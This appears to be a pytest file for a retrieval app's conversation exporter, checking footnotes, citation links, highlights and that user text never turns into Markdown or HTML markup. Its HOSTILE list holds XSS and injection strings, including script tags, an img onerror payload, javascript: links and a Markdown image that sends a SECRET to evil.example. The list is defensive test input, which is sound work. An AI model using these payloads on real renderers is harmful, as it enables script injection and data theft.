"""Exported conversations: footnotes with the quotes, and text that never becomes markup."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from datetime import UTC, date, datetime

import pytest
from lxml import html as lxml_html
from markdown_it import MarkdownIt
from markdown_it.token import Token

from rag import Answer, Citation, Evidence, Statement
from rag.types import Status
from ui.conversations import Entry
from ui.export import as_json, html, markdown

ASKED = datetime(2026, 11, 22, 8, 30, tzinfo=UTC)
HOSTILE = [
    "<script>alert(1)</script>",
    "![](http://evil.example/?q=SECRET)",
    "[click](javascript:alert(1)) <http://evil.example> www.evil.example http://evil.example a@evil.example",
    "# no heading",
    "- no item",
    "12. no item",
    "1) no item",
    "+ no item\n\n- nor this",
    "=====",
    "---",
    "> no quote",
    "```\nno code\n```",
    "    no code",
    "a | b\n--|--\n1 | 2",
    "*a* _b_ **c** __d__ ~~e~~ `f` ``g`` $h$",
    "[^1]: no footnote",
    "[1]: http://evil.example 'no reference'",
    "&lt;b&gt; &amp; &#60;",
    "\\*a\\* C:\\temp\\",
    "</title></style></script><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" \'',
    "{{ liquid }} {% raw %} ${x} {: .class}",
    "ends with #",
    "\x1b[31mred\x07",
]
ALLOWED_MARKDOWN = (
    "text(_special)?|softbreak|strong|em|code_inline|paragraph|heading|inline|list_item|bullet_list"
)
ALLOWED_HTML = (
    "html|head|meta|title|style|body|main|article|section|h[123]|p|ol|ul|li|strong|sup|a|bdi|span|q|br"
)


def answered(
    question: str, *quotes: str, source: str = "lamp.txt", bold: tuple[int, int] | None = None
) -> Answer:
    """Return an answer with a statement for each quote, from paragraphs 1, 2…"""
    citations = tuple(
        Citation(n, source, n, None, n, date(2023, 7, 28), quote, 0, len(quote), quote)
        for n, quote in enumerate(quotes, 1)
    )
    statements = tuple(Statement(quote, (n,), 1.0, bold) for n, quote in enumerate(quotes, 1))
    text = " ".join(f"{quote} [{n}]" for n, quote in enumerate(quotes, 1))
    return Answer(question, text, statements, citations, standalone=question)


def test_limit_of_the_search_is_told_in_each_export() -> None:
    limited = [replace(entries(answered("Who lit it?", "He did."))[0], scope=("lamp.txt", "<b>.txt"))]
    assert r"Searched only in: lamp\.txt, \<b\>.txt." in markdown("Lamp", limited)
    page = lxml_html.fromstring(html("Lamp", limited)).text_content()
    assert "Searched only in: lamp.txt, <b>.txt." in page
    assert json.loads(as_json("Lamp", limited))["answers"][0]["scope"] == ["lamp.txt", "<b>.txt"]
    assert "Searched only" not in markdown("Lamp", entries(answered("Who lit it?", "He did.")))


def test_an_unconfirmed_statement_is_marked_in_each_export() -> None:
    answer = answered("Who lit it?", "The keeper lit it.", "Ines saw it.")
    sure, doubtful = answer.statements
    answer = replace(answer, statements=(sure, replace(doubtful, status=Status.UNCONFIRMED)))
    assert "Ines saw it.[^2] (unconfirmed)" in markdown("Lamp", entries(answer))
    assert (
        json.loads(as_json("Lamp", entries(answer)))["answers"][0]["statements"][1]["status"] == "unconfirmed"
    )
    page = " ".join(lxml_html.fromstring(html("Lamp", entries(answer))).text_content().split())
    assert re.search(r"Ines saw it\. ?2 \(unconfirmed\)", page)
    assert page.count("(unconfirmed)") == 1


def refused(question: str, *texts: str, source: str = "lamp.txt") -> Answer:
    nearest = tuple(Evidence(n, source, n, text, page=2) for n, text in enumerate(texts, 1))
    return Answer(question, "I couldn't find this in your documents.", nearest=nearest, abstained=True)


def entries(*answers: Answer) -> list[Entry]:
    return [Entry(number, answer, ASKED) for number, answer in enumerate(answers, 1)]


def tokens(text: str) -> list[Token]:
    """Parse CommonMark with GitHub's tables and strikethrough; return all tokens, inner ones too."""
    blocks = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text)
    return [inner for block in blocks for inner in (block, *(block.children or ()))]


def seen(text: str) -> str:
    """Return the text as Markdown shows it: no control characters, whitespace collapsed."""
    return " ".join(
        re.sub("[\x00-\x08\x0e-\x1b\x7f-\x84\x86-\x9f\u202a-\u202e\u2066-\u2069]", "", text).split()
    )


def test_footnotes_count_through_the_conversation() -> None:
    first = answered("Which colour has the lamp?", "The lamp is green.", "The bell is brass.")
    understood = replace(answered("And it?", "It hangs high."), standalone="And the bell?")
    text = markdown("The lamp", entries(first, refused("Who paid?", "A rich man."), understood))
    assert text == (
        "# The lamp\n\n"
        "## Which colour has the lamp?\n\n*Asked 2026-11-22.*\n\n"
        "The lamp is green.[^1] The bell is brass.[^2]\n\n"
        "## Who paid?\n\n*Asked 2026-11-22.*\n\nI couldn't find this in your documents.\n\n"
        "Nearest paragraphs:\n\n- `lamp.txt` ¶1, page 2: “A rich man.”\n\n"
        "## And it?\n\n*Asked 2026-11-22. Understood as: And the bell?*\n\nIt hangs high.[^3]\n\n"
        "[^1]: `lamp.txt` ¶1, line 1, 2023-07-28: “The lamp is green.”\n\n"
        "[^2]: `lamp.txt` ¶2, line 2, 2023-07-28: “The bell is brass.”\n\n"
        "[^3]: `lamp.txt` ¶1, line 1, 2023-07-28: “It hangs high.”\n"
    )


def test_html_citations_link_to_the_quotes_and_back_without_scripts_or_requests() -> None:
    first = answered("Which colour has the lamp?", "The lamp is green.", "The bell is brass.", bold=(4, 8))
    again = replace(first.statements[1], citations=(1, 2))
    first = replace(first, statements=(first.statements[0], again), conflicting=True)
    text = html("The lamp", entries(first, answered("And it?", "It hangs high.")))
    page = lxml_html.fromstring(text)
    assert page.xpath("string(//title)") == page.xpath("string(//h1)") == "The lamp"
    assert "The sources differ." in page.xpath("string(//article[1])")
    marks = [(mark.text, mark.get("href")) for mark in page.xpath("//sup/a")]
    assert marks == [("1", "#note-1"), ("1", "#note-1"), ("2", "#note-2"), ("3", "#note-3")]
    notes = page.xpath("//ol/li")
    assert [note.xpath("string(q)") for note in notes] == [
        "The lamp is green.",
        "The bell is brass.",
        "It hangs high.",
    ]
    assert "lamp.txt ¶2" in notes[1].text_content()
    assert "2023-07-28" in notes[1].text_content()
    ids = page.xpath("//@id")
    assert len(ids) == len(set(ids))
    assert {link.removeprefix("#") for link in page.xpath("//@href")} <= set(ids)
    assert page.xpath("//strong/text()") == ["lamp", "bell"]
    policy = page.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    assert policy[0].startswith("default-src 'none'")
    assert not re.search(r"<script|<link|<img|url\(|@import|https?:", text)
    assert "prefers-color-scheme: dark" in text
    assert "@media print" in text


def close(text: str) -> str:
    """Return the text like `seen`, without spaces."""
    return "".join(seen(text).split())


@pytest.mark.parametrize(
    ("text", "bold", "shown"),
    [
        ("It cost $5 (about £4) then.", (8, 10), ["$5"]),
        ("It cost $5 (about £4) then.", (11, 21), ["(about £4)"]),
        ("The Örtürk-lamp is *green*.", (19, 26), ["*green*"]),
        ("The lamplight", (4, 8), ["lamp"]),
        ("a(b)c", (1, 4), []),
        ("a lamp ", (1, 7), []),
        ("It is green.", (0, 12), ["It is green."]),
    ],
)
def test_highlight_is_bold_in_markdown(text: str, bold: tuple[int, int], shown: list[str]) -> None:
    read = tokens(markdown("T", entries(answered("Q?", text, bold=bold))))
    inline = next(token for token in read if token.type == "inline" and seen(text)[:4] in token.content)
    assert seen("".join(child.content for child in inline.children or ())) == f"{seen(text)}[^1]"
    found, depth = [], 0
    for child in inline.children or ():
        depth += {"strong_open": 1, "strong_close": -1}.get(child.type, 0)
        if child.type == "strong_open":
            found.append("")
        elif depth:
            found[-1] += child.content
    assert found == shown


@pytest.fixture
def hostile(naughty_strings: list[str]) -> list[str]:
    return [*HOSTILE, *filter(seen, naughty_strings)]


def test_no_text_becomes_markdown(hostile: list[str]) -> None:
    for string in hostile:
        given = entries(answered(string, string, source=string), refused(string, string, source=string))
        text = markdown(string, given)
        read = tokens(text)
        kinds = {token.type.removesuffix("_open").removesuffix("_close") for token in read}
        assert not [kind for kind in kinds if not re.fullmatch(ALLOWED_MARKDOWN, kind)], string
        lines = [
            "".join(child.content or " " * (child.type == "softbreak") for child in token.children or ())
            for token in read
            if token.type == "inline"
        ]
        wanted = close(string)
        assert [close(line) for line in lines[:4]] == [wanted, wanted, "Asked2026-11-22.", f"{wanted}[^1]"]
        assert close(lines[-1]).startswith("[^1]:")
        assert close(lines[-1]).endswith(f"“{wanted}”")
        assert len(lines) == 10, string
        bare = re.sub(r"(`+) ?.*?[^`]\1(?!`)", "", text)
        assert not re.search(r"https?://|www\.\w", bare), string


def test_no_text_becomes_html(hostile: list[str]) -> None:
    for string in hostile:
        given = entries(answered(string, string, source=string), refused(string, string, source=string))
        page = lxml_html.document_fromstring(html(string, given))
        assert not [node for node in page.iter() if not re.fullmatch(ALLOWED_HTML, str(node.tag))], string
        assert not page.xpath("//@src | //@style | //@*[starts-with(name(), 'on')]"), string
        assert all(link.startswith("#") for link in page.xpath("//@href")), string
        quote = page.xpath("//ol/li/q")[0].text_content()
        assert re.sub(r"\W", "", quote) == re.sub(r"\W|[\x00-\x1f]", "", string), string


def test_json_keeps_every_answer_whole() -> None:
    answers = [
        answered("Which colour?", "The lamp is green – “grün”.", bold=(4, 8)),
        refused("Who?", "A rich man."),
    ]
    written = json.loads(as_json("The lamp", entries(*answers)))
    assert (written["pilcrow"], written["title"]) == (1, "The lamp")
    assert [Answer.from_json(answer) for answer in written["answers"]] == answers


def test_empty_conversation_can_be_exported() -> None:
    assert markdown("Nothing yet", []) == "# Nothing yet\n"
    assert "Sources" not in html("Nothing yet", [])
    assert json.loads(as_json("Nothing yet", []))["answers"] == []
